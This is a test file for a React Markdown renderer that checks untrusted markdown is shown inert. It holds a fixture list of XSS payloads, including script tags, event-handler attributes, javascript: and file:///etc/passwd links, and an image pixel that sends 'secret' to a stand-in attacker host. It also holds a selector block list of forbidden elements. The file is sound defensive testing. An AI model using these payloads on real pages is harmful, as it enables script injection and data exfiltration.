/** Answers as markdown: nothing of it acts, and all of it can be read. */
import { render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it, vi } from 'vitest'
import { Markdown } from './Markdown.tsx'

const HOSTILE = [
  '<script>globalThis.hacked = true</script>',
  '<img src="https://evil.example/a.png" onerror="globalThis.hacked = true">',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="key"></form>',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<svg onload="globalThis.hacked = true"></svg>',
  '[a](javascript:alert(1)) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](file:///etc/passwd) [e](ms-msdt:/id)',
  '![pixel](https://evil.example/pixel.png?said=secret)',
  '![data](data:image/svg+xml;base64,PHN2Zz4=)',
  '<video src="https://evil.example/v.mp4" autoplay></video> <audio src="https://evil.example/a.mp3"></audio>',
  '<a href="https://evil.example" onclick="globalThis.hacked = true">raw</a> <base href="https://evil.example">',
  '<text-mark number="1"></text-mark> \ue0f11\ue0f2',
].join('\n\n')
const FORBIDDEN =
  'script, iframe, form, input, style, svg:not([aria-hidden]), object, embed, video, audio, link, base, img, [onerror], [onclick], [onload], [style*="fixed"]'

describe('markdown from strangers', () => {
  it.each([true, false])('draws nothing forbidden (growing: %s)', (isGrowing) => {
    const { container } = draw(HOSTILE, { isGrowing })
    expect([...container.querySelectorAll(FORBIDDEN)].map(({ outerHTML }) => outerHTML)).toEqual([])
    expect(container.textContent).toContain('<script>')
    expect(screen.queryByTestId('mark')).toBeNull()
    expect(globalThis).not.toHaveProperty('hacked')
  })

  it('keeps no address that could be asked for by itself, and links only of kinds that open in a browser', () => {
    const { container } = draw(HOSTILE)
    const addresses = [...container.querySelectorAll('[src], [srcset], [poster], [href]')]
    for (const element of addresses) expect(element.getAttribute('href')).toMatch(/^(https?|mailto):/)
    expect(container.textContent).toContain('Image not loaded: evil.example')
  })

  it('asks before a link opens', async () => {
    const onOpenLink = vi.fn<(url: string) => void>()
    draw('[the guide](https://example.com/holds)', { onOpenLink })
    await userEvent.click(screen.getByRole('link', { name: 'the guide' }))
    expect(onOpenLink).toHaveBeenCalledWith('https://example.com/holds', false)
  })
})

describe('marks', () => {
  it('stand where they were put', () => {
    const { container } = draw('It is **so**[x] indeed', { marks: [{ start: 12, end: 15, number: 1 }] })
    expect(screen.getByTestId('mark').textContent).toBe('1')
    expect(container.textContent).toBe('It is so1 indeed')
  })

  it('leave a plain number in code', () => {
    const { container } = draw('run `a[x]` now', { marks: [{ start: 6, end: 9, number: 1 }] })
    expect(container.textContent).toBe('run a[1] now')
  })
})

it('emphasises Chinese next to punctuation', () => {
  const { container } = draw('**「保固」**，三年')
  expect(container.querySelector('[data-streamdown="strong"]')?.textContent).toBe('「保固」')
})

it('breaks lines in tables where it says <br>', () => {
  const { container } = draw('| a |\n|---|\n| one<br>two |')
  expect(container.querySelector('td br')).not.toBeNull()
})

type Options = Partial<Parameters<typeof Markdown>[0]>

function draw(text: string, over: Options = {}) {
  return render(
    <Markdown
      text={text}
      marks={[]}
      isGrowing={false}
      onOpenLink={() => undefined}
      renderMark={(number) => <b data-testid="mark">{number}</b>}
      {...over}
    />,
  )
}
